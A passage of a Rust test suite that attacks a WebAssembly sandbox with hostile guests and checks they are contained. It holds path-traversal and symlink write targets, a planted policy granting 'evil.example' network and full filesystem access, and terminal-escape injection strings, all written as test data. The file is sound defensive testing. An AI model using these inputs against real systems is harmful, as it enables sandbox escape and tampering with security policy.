    types.ty().function([ValType::I32; 4], [ValType::I32]);
    m.section(&types);
    let mut funcs = FunctionSection::new();
    funcs.function(0).function(1).function(2);
    m.section(&funcs);
    let mut tables = TableSection::new();
    tables.table(TableType {
        element_type: RefType::FUNCREF,
        table64: false,
        minimum: 1,
        maximum: None,
        shared: false,
    });
    m.section(&tables);
    let mut mems = MemorySection::new();
    mems.memory(MemoryType {
        minimum: 1,
        maximum: None,
        memory64: false,
        shared: false,
        page_size_log2: None,
    });
    m.section(&mems);
    let mut globals = GlobalSection::new();
    globals.global(
        GlobalType {
            val_type: ValType::I32,
            mutable: true,
            shared: false,
        },
        &ConstExpr::i32_const(4096),
    );
    m.section(&globals);
    let mut exports = ExportSection::new();
    exports
        .export("describe", ExportKind::Func, 0)
        .export("run", ExportKind::Func, 1)
        .export("cabi_realloc", ExportKind::Func, 2)
        .export("memory", ExportKind::Memory, 0);
    m.section(&exports);
    let mut code = CodeSection::new();
    let mut describe = Function::new([]);
    describe.instruction(&Instruction::I32Const(64)).instruction(&Instruction::End);
    code.function(&describe);
    let mut run = Function::new([]);
    run.instruction(&Instruction::Loop(wasm_encoder::BlockType::Empty))
        .instruction(&Instruction::RefNull(wasm_encoder::HeapType::FUNC))
        .instruction(&Instruction::I32Const(4096))
        .instruction(&Instruction::TableGrow(0))
        .instruction(&Instruction::Drop)
        .instruction(&Instruction::Br(0))
        .instruction(&Instruction::End)
        .instruction(&Instruction::Unreachable)
        .instruction(&Instruction::End);
    code.function(&run);
    let mut realloc = Function::new([]);
    realloc
        .instruction(&Instruction::GlobalGet(0))
        .instruction(&Instruction::GlobalGet(0))
        .instruction(&Instruction::LocalGet(3))
        .instruction(&Instruction::I32Add)
        .instruction(&Instruction::GlobalSet(0))
        .instruction(&Instruction::End);
    code.function(&realloc);
    m.section(&code);
    let mut data = DataSection::new();
    data.active(0, &ConstExpr::i32_const(64), record);
    data.active(0, &ConstExpr::i32_const(256), heap);
    m.section(&data);
    let mut module = m.finish();

    let mut resolve = wit_parser::Resolve::default();
    let (pkg, _) = resolve.push_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("../wit")).expect("wit");
    let world = resolve.select_world(&[pkg], Some("runnable")).expect("world");
    wit_component::embed_component_metadata(&mut module, &resolve, world, wit_component::StringEncoding::UTF8).expect("embed");
    wit_component::ComponentEncoder::default()
        .module(&module)
        .expect("module")
        .validate(true)
        .encode()
        .expect("encode")
}

#[test]
fn table_growth_is_stopped_by_the_table_limit() {
    let w = World::new();
    let before = w.snapshot();
    let bytes = table_grow_component();
    w.install(&bytes);
    let r = w.council_of("tables", "table-grow.v1", "x", json!({}), "{}");
    assert_eq!(
        r.receipt.status,
        RunStatus::Partial,
        "contained: the council completes without it: {:?}",
        r.receipt.error
    );
    assert_eq!(step_record(&r, "map:security.v1")["outcome"], "ok");
    let rec = step_record(&r, "map:table-grow.v1");
    assert_eq!(rec["outcome"], "trap", "{rec}");
    let msg = rec["cause"]["message"].as_str().expect("message");
    assert!(msg.contains("table growth") && msg.contains("exceeds the limit"), "{msg}");
    assert_eq!(r.receipt.payload["failed_specialists"], json!(["table-grow.v1"]));
    w.assert_unchanged(&before, "tables");
    w.assert_echo_still_works();
}

// ---------------------------------------------------------------------------
// Output, events, contract.

#[test]
fn huge_payload_references_and_error_messages_are_capped() {
    let w = World::new();
    let before = w.snapshot();
    let r = w.council("huge", "huge_payload", json!({"bytes": 16 << 20}), "{}");
    assert_council_contained(&r, "output_too_large");
    // References are output too: 64 x 1 MiB of them must not slip past the cap.
    let r = w.council("huge-refs", "huge_references", json!({"bytes": 1 << 20, "count": 64}), "{}");
    assert_council_contained(&r, "output_too_large");
    // A 16 MiB error message is not copied into the record.
    let r = w.council("huge-err", "huge_error", json!({"bytes": 16 << 20, "code_bytes": 1 << 20}), "{}");
    assert_council_contained(&r, "guest_error");
    let receipt_len = std::fs::metadata(r.run_dir.join("run_receipt.json")).expect("receipt").len();
    assert!(receipt_len < 1 << 20, "receipt stays small: {receipt_len} bytes");
    let events_len = std::fs::metadata(r.run_dir.join("events.jsonl")).expect("events").len();
    assert!(events_len < 1 << 20, "events stay small: {events_len} bytes");
    w.assert_unchanged(&before, "huge");
    w.assert_echo_still_works();
}

#[test]
fn event_and_stdout_floods_are_capped() {
    let w = World::new();
    let before = w.snapshot();
    let r = w.council("events", "events", json!({"count": 200_000}), "{}");
    assert_council_contained(&r, "ok");
    let events = runs::read_events(&r.run_dir);
    let kept = events.iter().filter(|e| e["type"] == "guest_event" && e["node"] == "map:hostile.v1").count();
    assert_eq!(kept, 1000, "max_events_per_step");
    let dropped = events
        .iter()
        .find(|e| e["type"] == "guest_events_dropped" && e["node"] == "map:hostile.v1")
        .expect("dropped event");
    assert_eq!(dropped["dropped"], 199_000);
    let r = w.council("big-events", "events", json!({"count": 100, "field_bytes": 64 << 10}), "{}");
    assert_council_contained(&r, "ok");
    let events = runs::read_events(&r.run_dir);
    assert_eq!(events.iter().filter(|e| e["type"] == "guest_event" && e["node"] == "map:hostile.v1").count(), 0);
    let r = w.council("stdout", "print", json!({"bytes": 32 << 20}), "{}");
    assert_council_contained(&r, "ok");
    let out = runs::read_events(&r.run_dir)
        .into_iter()
        .find(|e| e["type"] == "guest_output" && e["node"] == "map:hostile.v1")
        .expect("guest_output");
    assert_eq!(out["truncated"], true);
    assert!(out["stdout"].as_str().expect("stdout").len() <= 64 << 10);
    let events_len = std::fs::metadata(r.run_dir.join("events.jsonl")).expect("events").len();
    assert!(events_len < 1 << 20, "{events_len}");
    w.assert_unchanged(&before, "events");
    w.assert_echo_still_works();
}

#[test]
fn output_that_is_not_valid_json_or_breaks_the_contract_is_contract_invalid() {
    let w = World::new();
    let before = w.snapshot();
    let r = w.council("invalid-json", "invalid_json", json!({}), "{}");
    assert_council_contained(&r, "contract_invalid");
    let r = w.council("bad-output", "bad_output", json!({}), "{}");
    assert_council_contained(&r, "contract_invalid");
    let r = w.council("forge", "forge_approval", json!({"id": "apr-0000000000000000"}), "{}");
    assert_council_contained(&r, "contract_invalid");
    // Artifacts named to escape the run directory, or to pass for the host's
    // own files (its run lock, a temp file): refused.
    for (i, name) in ["../escape.txt", ".run.lock", ".tmp-abcd.partial", "a/b"].iter().enumerate() {
        let id = format!("artifact-{i}");
        let r = w.step(&id, "artifacts", json!({ "names": [name] }), "{}");
        assert_eq!(r.receipt.status, RunStatus::Failed, "{name}: {:?}", r.receipt.artifacts);
        let err = r.receipt.error.as_ref().expect("error");
        assert_eq!(err.cause["code"], ErrorCode::BlueprintContractInvalid.as_str(), "{name}: {:?}", err.cause);
        assert!(!r.run_dir.parent().expect("job dir").join("escape.txt").exists());
    }
    // An artifact named like the receipt does not replace it.
    let r = w.step("artifact-receipt", "artifacts", json!({"names": ["run_receipt.json", "events.jsonl"]}), "{}");
    assert_eq!(r.receipt.status, RunStatus::Succeeded);
    assert!(r.receipt.artifacts.iter().all(|a| a.name != "run_receipt.json" && a.name != "events.jsonl"));
    assert!(runs::read_receipt(&r.run_dir).is_some());
    w.assert_unchanged(&before, "contract");
    w.assert_echo_still_works();
}

#[test]
fn a_component_importing_interfaces_the_host_does_not_provide_is_refused_before_running() {
    let w = World::new();
    let before = w.snapshot();
    let evil = guest("hostile_import");
    let err = w.rt.block_on(w.lily.sandbox.load(&evil)).expect_err("refused at load");
    assert!(err.message.contains("imports interfaces the host does not provide"), "{}", err.message);
    assert!(err.message.contains("acme:evil/exfil"), "{}", err.message);
    let err =
        w.rt.block_on(w.lily.runnables.install(&w.lily.sandbox, &evil, None, false))
            .expect_err("install refused")
            .to_string();
    assert!(err.contains("acme:evil/exfil"), "{err}");
    w.plant("hostile-import.v1", &evil);
    let r = w.council_of("evil", "hostile-import.v1", "x", json!({}), "{}");
    assert_refused_at_load(&r, "acme:evil/exfil");
    w.assert_unchanged(&before, "evil import");
    w.assert_echo_still_works();
}

/// Malformed component bytes, each refused at load with a message, fast.
fn malformed_inputs() -> Vec<(String, Vec<u8>)> {
    let echo = builtin_bytes("echo.v1").expect("echo").to_vec();
    let mut v: Vec<(String, Vec<u8>)> = vec![
        ("empty".into(), vec![]),
        ("magic only".into(), b"\0asm".to_vec()),
        ("a core module, not a component".into(), b"\0asm\x01\0\0\0".to_vec()),
        ("component header only".into(), b"\0asm\x0d\0\x01\0".to_vec()),
        ("text".into(), b"(component)".to_vec()),
        (
            "huge section length".into(),
            [b"\0asm\x0d\0\x01\0\x01\xff\xff\xff\xff\x0f".as_slice(), &[0u8; 16]].concat(),
        ),
        ("zeros".into(), vec![0u8; 4096]),
    ];
    for cut in [9usize, 64, echo.len() / 2, echo.len() - 1] {
        v.push((format!("echo truncated at {cut}"), echo[..cut].to_vec()));
    }
    let mut flipped = echo.clone();
    for i in (8..flipped.len()).step_by(97) {
        flipped[i] ^= 0x5a;
    }
    v.push(("echo with bytes flipped".into(), flipped));
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let random: Vec<u8> = (0..8192)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    v.push((
        "random bytes after a component header".into(),
        [b"\0asm\x0d\0\x01\0".as_slice(), &random].concat(),
    ));
    v
}

#[test]
fn malformed_component_bytes_are_refused_at_load() {
    let w = World::new();
    let before = w.snapshot();
    for (what, bytes) in malformed_inputs() {
        let t = Instant::now();
        let err = w.rt.block_on(w.lily.sandbox.load(&bytes)).expect_err(&what);
        assert!(!err.message.is_empty(), "{what}");
        assert!(t.elapsed() < Duration::from_secs(10), "{what}: {:?}", t.elapsed());
    }
    w.plant("garbage.v1", b"\0asm\x0d\0\x01\0garbage");
    let r = w.council_of("garbage", "garbage.v1", "x", json!({}), "{}");
    assert_eq!(r.receipt.status, RunStatus::Failed);
    let e = r.receipt.error.as_ref().expect("error");
    assert_eq!(e.cause["code"], ErrorCode::BlueprintContractInvalid.as_str(), "{:?}", e.cause);
    assert!(e.message.contains("not a valid WebAssembly component"), "{}", e.message);
    w.assert_unchanged(&before, "malformed");
    w.assert_echo_still_works();
}

// ---------------------------------------------------------------------------
// Effects.

#[test]
fn proposed_effects_outside_the_root_are_refused_and_approve_stays_inside() {
    let w = World::new();
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(&w.outside, w.root.join("link-dir")).expect("symlink");
        std::os::unix::fs::symlink(w.outside.join("secret.txt"), w.root.join("link-file")).expect("symlink");
    }
    let before = w.snapshot();
    let paths = json!([
        "../x",
        "/etc/x",
        "a/../../x",
        "./../x",
        "..\\x",
        "C:/x",
        "",
        "link-dir/pwned.txt",
        "link-file",
        "ok/fine.txt"
    ]);
    let r = w.council("effects", "propose", json!({"paths": paths, "content": "pwned"}), "{}");
    assert_council_contained(&r, "ok");
    let obs = observed(&r);
    let results = obs["proposals"].as_array().expect("proposals");
    for p in results {
        let path = p["path"].as_str().expect("path");
        let recorded = p["ok"] == true;
        let lexically_inside = ["link-dir/pwned.txt", "link-file", "ok/fine.txt"].contains(&path);
        assert_eq!(recorded, lexically_inside, "{path}: {p}");
    }
    let requested: Vec<Value> = r.receipt.approvals_requested.iter().map(json).collect();
    assert_eq!(requested.len(), 3, "{requested:?}");
    for req in requested {
        let id = req["id"].as_str().expect("id");
        let target = req["target"].as_str().expect("target");
        match target {
            // A target reached through a link is refused when proposed (and
            // could not be approved either): links are never followed.
            "link-dir/pwned.txt" | "link-file" => {
                assert_eq!(req["state"], "denied", "{req}");
                let stored = approvals::load(&w.lily.root, id).expect("stored");
                assert!(stored.decided_by.contains("symbolic link"), "{}", stored.decided_by);
                assert!(approvals::approve(&w.lily.root, id, true).is_err());
            }
            _ => {
                assert_eq!(req["state"], "pending", "{req}");
                let res = approvals::approve(&w.lily.root, id, true);
                assert!(res.is_ok(), "{res:?}");
            }
        }
    }
    assert!(
        w.root.join("link-file").symlink_metadata().expect("link").file_type().is_symlink(),
        "the link was not replaced"
    );
    assert_eq!(std::fs::read_to_string(w.root.join("ok/fine.txt")).expect("applied"), "pwned");
    assert!(!w.outside.join("pwned.txt").exists());
    assert!(!Path::new("/etc/x").exists());
    // The operator-approved writes changed the root; outside nothing did.
    let after = w.snapshot();
    assert!(diff(&before.1, &after.1).is_empty(), "outside changed: {:?}", diff(&before.1, &after.1));
    assert_eq!(std::fs::read_to_string(w.outside.join("secret.txt")).expect("secret"), SECRET);
    w.assert_echo_still_works();
}

#[test]
fn proposal_floods_cannot_amplify_guest_memory_into_host_memory() {
    let w = World::new();
    let before = w.snapshot();
    // One 4 MiB buffer proposed 64 times: the host must not keep 256 MiB.
    for kind in ["publish", "write"] {
        let r = w.council(
            &format!("flood-{kind}"),
            "propose",
            json!({"paths": [], "flood_bytes": 4 << 20, "flood_count": 64, "flood_kind": kind}),
            "{}",
        );
        assert_council_contained(&r, "ok");
        let obs = observed(&r);
        let kept = obs["flood_ok"].as_u64().expect("flood_ok");
        assert!(kept * (4 << 20) <= 8 << 20, "{kind}: at most the output cap is kept: {obs}");
        // Publish destinations are names (<= 1 KiB); one 4 MiB write fits the cap.
        assert_eq!(kept, if kind == "publish" { 0 } else { 1 }, "{obs}");
        assert!(!obs["flood_error"].is_null(), "{obs}");
        assert_eq!(r.receipt.approvals_requested.len() as u64, kept);
    }
    w.assert_unchanged(&before, "proposal flood");
    w.assert_echo_still_works();
}

// ---------------------------------------------------------------------------
// The sandbox alone, many attacks in a row: one engine survives them all.

#[test]
fn one_sandbox_survives_every_attack_in_a_row() {
    let sb = Arc::new(Sandbox::new(SandboxOptions::default()).expect("sandbox"));
    let rt = tokio::runtime::Builder::new_multi_thread().enable_all().build().expect("rt");
    let hostile = rt.block_on(sb.load(&guest("hostile_specialist"))).expect("load");
    let echo = rt.block_on(sb.load(builtin_bytes("echo.v1").expect("echo"))).expect("echo");
    let tmp = tempfile::tempdir().expect("tmp");
    let limits = Limits {
        deadline: Duration::from_secs(2),
        fuel: Some(2_000_000_000),
        memory_bytes: 128 << 20,
        ..Limits::default()
    };
    let grants = Grants {
        dirs: vec![DirGrant {
            host: tmp.path().to_path_buf(),
            guest: "/state".into(),
            perms: Perms::ReadWrite,
        }],
        ..Grants::default()
    };
    let attacks = [
        ("loop", json!({}), "out_of_fuel"),
        ("sleep", json!({"ms": 60_000}), "deadline_exceeded"),
        ("alloc", json!({}), "memory_limit"),
        ("recurse", json!({}), "trap"),
        ("panic", json!({"message": "x"}), "trap"),
        ("huge_payload", json!({"bytes": 9 << 20}), "output_too_large"),
        ("invalid_json", json!({}), "contract_invalid"),
        ("handle_flood", json!({"max": 50_000}), "trap"),
        ("long_paths", json!({"dir": "/state", "max_depth": 32}), "ok"),
    ];
    for round in 0..2 {
        for (attack, args, kind) in &attacks {
            let r = rt.block_on(sb.run(
                &hostile,
                StepRequest {
                    input: json!({"attack": attack, "args": args}),
                    grants: grants.clone(),
                    limits: limits.clone(),
                    ..Default::default()
                },
            ));
            let got = match &r.outcome {
                Ok(_) => "ok",
                Err(c) => c.kind(),
            };
            assert_eq!(got, *kind, "round {round}, {attack}: {:?}", r.outcome.as_ref().err());
            let ok = rt.block_on(sb.run(
                &echo,
                StepRequest {
                    input: json!({"round": round}),
                    ..Default::default()
                },
            ));
            assert_eq!(ok.outcome.expect("echo after an attack").payload, json!({"round": round}));
        }
    }
    let r = rt.block_on(sb.run(
        &hostile,
        StepRequest {
            input: json!({"attack": "huge_error", "args": {"bytes": 1 << 20, "code_bytes": 1 << 20}}),
            limits: limits.clone(),
            ..Default::default()
        },
    ));
    match r.outcome {
        Err(Cause::GuestError { code, message, .. }) => {
            assert!(
                code.len() <= 128 && message.len() <= 4096,
                "guest error strings are capped: {} / {}",
                code.len(),
                message.len()
            );
            assert!(code.ends_with("[truncated]") && message.ends_with("[truncated]"));
        }
        other => panic!("expected a guest error, got {other:?}"),
    }
}

// ---------------------------------------------------------------------------
// Found from outside (issue 13): attacks an outside red team found that the
// suite above missed. Each test fails on the host before its fix; the ones
// that used to take the host down run under a resource guard.

/// A cap around a test of a former host-killer: if the process's resident
/// memory passes `max_rss` or the test outlives `max_time`, the process
/// aborts with a message — a regression fails the run instead of taking the
/// machine down.
struct Guard(Arc<std::sync::atomic::AtomicBool>);

impl Drop for Guard {
    fn drop(&mut self) {
        self.0.store(true, std::sync::atomic::Ordering::Relaxed);
    }
}

fn guard(what: &'static str, max_rss: u64, max_time: Duration) -> Guard {
    let done = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let d = done.clone();
    let started = Instant::now();
    std::thread::spawn(move || {
        while !d.load(std::sync::atomic::Ordering::Relaxed) {
            let rss = rss_bytes();
            if rss > max_rss || started.elapsed() > max_time {
                eprintln!(
                    "resource guard of {what:?}: rss {rss} bytes (cap {max_rss}), {:?} elapsed (cap {max_time:?}); aborting",
                    started.elapsed()
                );
                std::process::abort();
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    });
    Guard(done)
}

/// Resident set size of this process (Linux; 0 elsewhere).
fn rss_bytes() -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with("VmRSS:"))
                .and_then(|l| l.split_whitespace().nth(1)?.parse::<u64>().ok())
        })
        .map_or(0, |kib| kib * 1024)
}

const GIB: u64 = 1 << 30;

#[test]
fn outside_1_an_exponential_output_schema_is_stopped_by_the_validation_budget() {
    let _g = guard("schema bomb", 6 * GIB, Duration::from_secs(300));
    let w = World::new();
    w.install(&guest("hostile_schema_bomb"));
    let before = w.snapshot();
    // Depth 32: 2^32 branch evaluations unbudgeted (the host ran out of
    // memory at 24); ~300 bytes of payload.
    let started = Instant::now();
    let r = w.council_of("schema-bomb", "schema-bomb.v1", "bomb", json!({"depth": 32}), "{}");
    assert_specialist_contained(&r, "schema-bomb.v1", "contract_invalid");
    let step = step_record(&r, "map:schema-bomb.v1");
    let reason = step["cause"]["reason"].as_str().expect("reason");
    assert!(reason.starts_with("output validation exceeded its budget"), "{reason}");
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "stopped by the budget, not by luck: {:?}",
        started.elapsed()
    );
    w.assert_unchanged(&before, "schema bomb");
    w.assert_echo_still_works();
}

#[test]
fn outside_2_a_backtracking_pattern_in_a_declared_schema_is_refused_at_load() {
    let _g = guard("regex bomb", 6 * GIB, Duration::from_secs(300));
    let w = World::new();
    let bomb = guest("hostile_regex_bomb");
    let started = Instant::now();
    let err =
        w.rt.block_on(w.lily.runnables.install(&w.lily.sandbox, &bomb, None, false))
            .expect_err("install refused")
            .to_string();
    assert!(err.contains("linear-time engine"), "{err}");
    // Planted without checks, it is refused again when a job loads it: the
    // council fails at load, fast, with a contract error; no step runs.
    w.plant("regex-bomb.v1", &bomb);
    let r = w.council_of("regex-bomb", "regex-bomb.v1", "bomb", json!({}), "{ timeout_seconds: 5 }");
    assert_refused_at_load(&r, "linear-time engine");
    assert!(started.elapsed() < Duration::from_secs(30), "{:?}", started.elapsed());
    w.assert_echo_still_works();
}

/// The policy of [`World`], plus a read-write grant of `.lily/out/x` to the
/// hostile specialist and the starter policy's auto-approval of `.lily/out/**`.
fn out_policy() -> String {
    POLICY
        .replace(
            "      - { path: state, mode: rw }\n  \"table-grow.v1\"",
            "      - { path: state, mode: rw }\n      - { path: .lily/out/x, mode: rw }\n  \"table-grow.v1\"",
        )
        .replace(
            "  write_file: { default: require_approval }",
            "  write_file: { default: require_approval, auto_approve: [\".lily/out/**\"] }",
        )
}

/// `step.v1` running the hostile specialist with `/state` = `.lily/out/x`.
fn out_step(w: &World, id: &str, attack: &str, args: Value) -> RunResult {
    let input = json!({"attack": attack, "args": args});
    w.write_job(
        id,
        &format!(
            "id: {id}\ntitle: {id}\ntarget:\n  kind: blueprint\n  id: step.v1\n  input: {input}\nbindings: {{ runnable: hostile.v1, state_dir: .lily/out/x }}\ntrigger: {{ type: manual }}\nruntime: {{}}\noutput: {{}}\n"
        ),
    );
    w.run(id)
}

#[test]
fn outside_3_a_guest_cannot_write_the_policy_through_a_link_it_planted_in_the_output_area() {
    let w = World::new();
    std::fs::create_dir_all(w.root.join(".lily/out/x")).expect("mkdir");
    let policy = out_policy();
    std::fs::write(w.root.join(".lily/policy.yaml"), &policy).expect("policy");
    let evil_policy = "version: 1\nrunnables:\n  \"*\":\n    fs: [{ path: ., mode: rw }]\n    network: [\"evil.example:443\"]\n";
    let r = out_step(
        &w,
        "link-up",
        "propose",
        json!({
            "links": [["../..", "/state/up"], ["../../policy.yaml", "/state/pol"]],
            "paths": [".lily/out/x/up/policy.yaml", ".lily/out/x/pol", ".lily/out/x/ok.md"],
            "content": evil_policy,
        }),
    );
    let obs = observed_step(&r);
    assert!(
        obs["links"].as_array().expect("links").iter().all(|l| l["result"]["ok"] == true),
        "the links were planted: {obs}"
    );
    let by_target: BTreeMap<String, Value> = r
        .receipt
        .approvals_requested
        .iter()
        .map(json)
        .map(|a| (a["target"].as_str().expect("target").to_string(), a.clone()))
        .collect();
    for t in [".lily/out/x/up/policy.yaml", ".lily/out/x/pol"] {
        assert_eq!(by_target[t]["state"], "denied", "{t}: {:?}", by_target[t]);
        let id = by_target[t]["id"].as_str().expect("id");
        let req = approvals::load(&w.lily.root, id).expect("request");
        assert!(req.decided_by.contains("symbolic link"), "{}", req.decided_by);
        assert!(approvals::approve(&w.lily.root, id, true).is_err(), "never approvable");
    }
    // A plain file in the output area is still auto-approved and written.
    assert_eq!(by_target[".lily/out/x/ok.md"]["state"], "applied");
    assert_eq!(
        std::fs::read_to_string(w.root.join(".lily/policy.yaml")).expect("policy"),
        policy,
        "the policy is unchanged"
    );
    assert!(w.root.join(".lily/out/x/up").symlink_metadata().expect("link").file_type().is_symlink());
    w.assert_echo_still_works();
}

/// Run the `lily` binary in `root`; returns (status, stdout + stderr).
fn lily_cli(root: &Path, args: &[&str]) -> (i32, String) {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_lily"))
        .arg("--root")
        .arg(root)
        .args(args)
        .stdin(std::process::Stdio::null())
        .output()
        .expect("run lily");
    let mut text = String::from_utf8_lossy(&out.stdout).into_owned();
    text.push_str(&String::from_utf8_lossy(&out.stderr));
    (out.status.code().unwrap_or(-1), text)
}

/// Nothing a terminal would act on: no ESC, BEL, CR, C1 control or bidi override.
fn assert_inert(what: &str, text: &str) {
    for c in text.chars() {
        let bad = (c < ' ' && c != '\n' && c != '\t')
            || ('\u{7f}'..='\u{9f}').contains(&c)
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c);
        assert!(!bad, "{what}: raw control U+{:04X} reaches the terminal:\n{text}", c as u32);
    }
}

#[test]
fn outside_4_a_proposal_for_lily_state_is_refused_and_show_prints_the_real_target_last() {
    let w = World::new();
    std::fs::create_dir_all(w.root.join("notes")).expect("mkdir");
    let policy_before = std::fs::read(w.root.join(".lily/policy.yaml")).expect("policy");
    let r = w.council(
        "social",
        "inject",
        json!({"paths": [".lily/policy.yaml", ".lily/jobs/evil.job.yaml", ".git/hooks/pre-commit", "notes/release.md"]}),
        "{}",
    );
    assert_council_contained(&r, "ok");
    let reqs: Vec<Value> = r.receipt.approvals_requested.iter().map(json).collect();
    assert_eq!(reqs.len(), 4, "{reqs:?}");
    let mut pending = None;
    for a in reqs {
        let target = a["target"].as_str().expect("target");
        if target == "notes/release.md" {
            assert_eq!(a["state"], "pending");
            pending = a["id"].as_str().map(str::to_string);
        } else {
            assert_eq!(a["state"], "denied", "{target} refused at proposal: {a}");
            let req = approvals::load(&w.lily.root, a["id"].as_str().expect("id")).expect("request");
            assert!(req.decided_by.contains("runnables can never write it"), "{}", req.decided_by);
        }
    }
    let id = pending.expect("the notes proposal is pending");
    let (code, show) = lily_cli(&w.root, &["approvals", "show", &id]);
    assert_eq!(code, 0, "{show}");
    assert_inert("approvals show", &show);
    assert!(show.contains("\\x1b[8m"), "the conceal code is shown, visibly: {show}");
    let last = show.trim_end().lines().last().expect("a last line");
    assert_eq!(last, "target (write_file): notes/release.md", "{show}");
    let (_, list) = lily_cli(&w.root, &["approvals", "list"]);
    assert_inert("approvals list", &list);
    assert_eq!(std::fs::read(w.root.join(".lily/policy.yaml")).expect("policy"), policy_before);
}

#[test]
fn outside_5_guest_strings_are_escaped_on_the_terminal_and_in_generated_markdown() {
    let w = World::new();
    let r = w.council("inject", "inject", json!({"paths": ["notes/x.md"]}), "{}");
    assert_council_contained(&r, "ok");
    let events = runs::read_events(&r.run_dir);
    assert!(
        !events.iter().any(|e| e.to_string().contains("Bad")),
        "an event kind that is not snake_case is dropped"
    );
    let run_id = r.receipt.run_id.clone();
    for args in [
        vec!["jobs", "show", run_id.as_str()],
        vec!["jobs", "tail", "inject", "-n", "1000"],
        vec!["jobs", "runs", "inject"],
        vec!["approvals", "list"],
        vec!["jobs", "run", "inject"],
        vec!["jobs", "show", run_id.as_str(), "--json"],
        vec!["jobs", "tail", "inject", "-n", "1000", "--json"],
    ] {
        let (_, text) = lily_cli(&w.root, &args);
        assert_inert(&args.join(" "), &text);
    }
    let (_, tail) = lily_cli(&w.root, &["jobs", "tail", "inject", "-n", "1000"]);
    assert!(tail.contains("\\x1b]0;pwned"), "guest stdout / fields are shown escaped: {tail}");
    for doc in ["summary.md", "report.md"] {
        let text = std::fs::read_to_string(r.run_dir.join(doc)).expect(doc);
        assert_inert(doc, &text);
        // Code spans (evidence) show their text literally: look outside them.
        let outside_code: String = text.lines().flat_map(|l| l.split('`').step_by(2)).collect::<Vec<_>>().join("\n");
        assert!(!outside_code.contains("<script>"), "{doc}: raw HTML:\n{text}");
        assert!(!text.lines().any(|l| l.starts_with("# Injected")), "{doc}: an injected heading:\n{text}");
        assert!(!outside_code.contains("click]("), "{doc}: an injected link:\n{text}");
        for l in text.lines().filter(|l| l.starts_with('|') && !l.starts_with("|---")) {
            assert_eq!(
                l.matches(" | ").count() + 2,
                l.matches('|').count() - l.matches("\\|").count(),
                "{doc}: a table row keeps its cells: {l}"
            );
        }
    }
}

/// A component whose one core function nests `depth` blocks.
fn nested_blocks_component(depth: usize) -> Vec<u8> {
    use wasm_encoder::{BlockType, CodeSection, Function, FunctionSection, Instruction, Module, ModuleSection, TypeSection};
    let mut m = Module::new();
    let mut types = TypeSection::new();
    types.ty().function([], []);
    m.section(&types);
    let mut funcs = FunctionSection::new();
    funcs.function(0);
    m.section(&funcs);
    let mut f = Function::new([]);
    for _ in 0..depth {
        f.instruction(&Instruction::Block(BlockType::Empty));
    }
    for _ in 0..=depth {
        f.instruction(&Instruction::End);
    }
    let mut code = CodeSection::new();
    code.function(&f);
    m.section(&code);
    let mut c = wasm_encoder::Component::new();
    c.section(&ModuleSection(&m));
    c.finish()
}

#[test]
fn outside_9_components_that_are_too_large_or_too_nested_are_refused_before_compiling() {
    let _g = guard("compile bomb", 6 * GIB, Duration::from_secs(300));
    let sb = Sandbox::new(SandboxOptions::default()).expect("sandbox");
    let rt = tokio::runtime::Builder::new_multi_thread().enable_all().build().expect("rt");
    // 100,000 nested blocks (~300 KB): 30 s of Cranelift before the fix.
    let bomb = nested_blocks_component(100_000);
    let started = Instant::now();
    let err = rt.block_on(sb.load(&bomb)).expect_err("refused");
    assert!(err.message.starts_with("component_too_complex: "), "{}", err.message);
    assert!(started.elapsed() < Duration::from_secs(5), "refused before compiling: {:?}", started.elapsed());
    // The size limit (policy limits.max_component_mb) applies to any component.
    sb.set_max_component_bytes(1000);
    let err = rt.block_on(sb.load(builtin_bytes("echo.v1").expect("echo"))).expect_err("too large");
    assert!(err.message.contains("max_component_mb"), "{}", err.message);
    sb.set_max_component_bytes(64 << 20);
    assert!(rt.block_on(sb.load(builtin_bytes("echo.v1").expect("echo"))).is_ok());
}

#[test]
fn outside_10_a_directory_swapped_after_the_proposal_cannot_redirect_the_approval() {
    let w = World::new();
    std::fs::create_dir_all(w.root.join("notes")).expect("mkdir");
    std::fs::create_dir_all(w.root.join("docs")).expect("mkdir");
    let r = w.council(
        "swap",
        "propose",
        json!({"paths": ["notes/new.job.yaml", "docs/new.job.yaml"], "content": "id: evil\n"}),
        "{}",
    );
    assert_council_contained(&r, "ok");
    let ids: BTreeMap<String, String> = r
        .receipt
        .approvals_requested
        .iter()
        .map(json)
        .map(|a| (a["target"].as_str().expect("t").to_string(), a["id"].as_str().expect("id").to_string()))
        .collect();
    let jobs_before = snapshot(&w.root.join(".lily/jobs"), &[]);
    // `notes` becomes a link to .lily/jobs; `docs` is replaced by another
    // real directory (the same name, a different directory).
    std::fs::rename(w.root.join("notes"), w.root.join("notes-old")).expect("mv");
    #[cfg(unix)]
    std::os::unix::fs::symlink(w.root.join(".lily/jobs"), w.root.join("notes")).expect("link");
    std::fs::rename(w.root.join("docs"), w.root.join("docs-old")).expect("mv");
    std::fs::create_dir(w.root.join("docs")).expect("mkdir");
    for (target, why) in [("notes/new.job.yaml", "symbolic link"), ("docs/new.job.yaml", "changed since the proposal")] {
        let e = approvals::approve(&w.lily.root, &ids[target], true)
            .expect_err("refused, even with --force")
            .to_string();
        assert!(e.contains(why), "{target}: {e}");
    }
    assert!(
        diff(&jobs_before, &snapshot(&w.root.join(".lily/jobs"), &[])).is_empty(),
        ".lily/jobs unchanged"
    );
    assert!(!w.root.join("docs/new.job.yaml").exists());
}

#[test]
fn outside_6_name_lookups_resolve_granted_hosts_only_and_every_refusal_is_recorded() {
    let w = World::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    let port = listener.local_addr().expect("addr").port();
    let policy = POLICY.replace(
        "      - { path: state, mode: rw }\n  \"table-grow.v1\"",
        &format!("      - {{ path: state, mode: rw }}\n    network: [\"localhost:{port}\"]\n  \"table-grow.v1\""),
    );
    std::fs::write(w.root.join(".lily/policy.yaml"), policy).expect("policy");
